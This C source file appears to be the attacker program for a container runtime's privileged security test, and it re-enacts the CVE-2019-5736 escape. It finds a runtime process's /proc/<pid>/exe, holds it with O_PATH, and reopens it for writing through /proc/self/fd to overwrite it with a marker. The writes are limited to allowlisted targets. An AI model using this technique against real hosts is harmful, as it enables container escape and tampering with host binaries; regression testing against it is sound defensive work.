/*
 * The CVE-2019-5736 attacker for test/privileged/security-exe.test.ts, run inside a container. It
 * watches the container's /proc for a process whose /proc/<pid>/exe is not one of the image's own
 * binaries (what a runtime's exec through /proc/self/exe would give), holds that file with O_PATH, and
 * then keeps trying to reopen it for writing through /proc/self/fd/N, past ETXTBSY, until the deadline;
 * when it can, it writes a marker over the first bytes. It reports what it saw, one key=value per line,
 * in the file named by argv[1]; argv[2] is the deadline in seconds; argv[3...] are the only targets it may
 * write (prefixes of the /proc/<pid>/exe link: the test's copy of node, the exec shim), so that a mistake
 * can never reach another binary of the machine.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int allowed(const char *link, int argc, char **argv) {
  for (int i = 3; i < argc; i++)
    if (!strncmp(link, argv[i], strlen(argv[i]))) return 1;
  return 0;
}

static const char *errname(int e) {
  switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ETXTBSY: return "ETXTBSY";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    default: return strerror(e);
  }
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  FILE *out = fopen(argv[1], "w");
  if (!out) return 2;
  double deadline = now() + atof(argv[2]);
  char self[4096] = "";
  ssize_t sl = readlink("/proc/self/exe", self, sizeof self - 1);
  if (sl > 0) self[sl] = 0;
  int denied = 0, fd = -1;
  char target[4096] = "", skipped[4096] = "";
  fprintf(out, "ready=1\n");
  fflush(out);
  /* 1: find a process running something that is neither this program nor busybox */
  while (fd < 0 && now() < deadline) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && fd < 0 && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == getpid()) continue;
      char path[64], link[4096];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      ssize_t n = readlink(path, link, sizeof link - 1);
      if (n < 0) {
        if (errno == EACCES || errno == EPERM) denied++; /* a non-dumpable bootstrap */
        continue;
      }
      link[n] = 0;
      if (!strcmp(link, self) || !strcmp(link, "/bin/busybox")) continue;
      if (!allowed(link, argc, argv)) {
        memcpy(skipped, link, sizeof skipped);
        continue;
      }
      fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) {
        fprintf(out, "open_path_error=%s\n", errname(errno));
        continue;
      }
      memcpy(target, link, sizeof target);
    }
    if (d) closedir(d);
  }
  fprintf(out, "nondumpable_seen=%d\n", denied);
  if (skipped[0]) fprintf(out, "skipped=%s\n", skipped);
  if (fd < 0) {
    fprintf(out, "target=none\n");
    return 0;
  }
  fprintf(out, "target=%s\n", target);
  fflush(out);
  /* 2: reopen it for writing once nothing executes it any more, and write */
  char reopen[64];
  snprintf(reopen, sizeof reopen, "/proc/self/fd/%d", fd);
  long busy = 0;
  int last = 0;
  while (now() < deadline) {
    int w = open(reopen, O_WRONLY | O_CLOEXEC);
    if (w < 0) {
      last = errno;
      if (errno == ETXTBSY) {
        busy++;
        usleep(1000);
        continue;
      }
      break;
    }
    last = 0;
    static const char marker[] = "BERTH-EXE-OVERWRITTEN";
    ssize_t n = pwrite(w, marker, sizeof marker - 1, 0);
    fprintf(out, "reopen=ok\nwrite=%s\n", n == (ssize_t)(sizeof marker - 1) ? "ok" : errname(errno));
    close(w);
    break;
  }
  fprintf(out, "etxtbsy=%ld\n", busy);
  if (last) fprintf(out, "reopen=%s\n", errname(last));
  fclose(out);
  return 0;
}
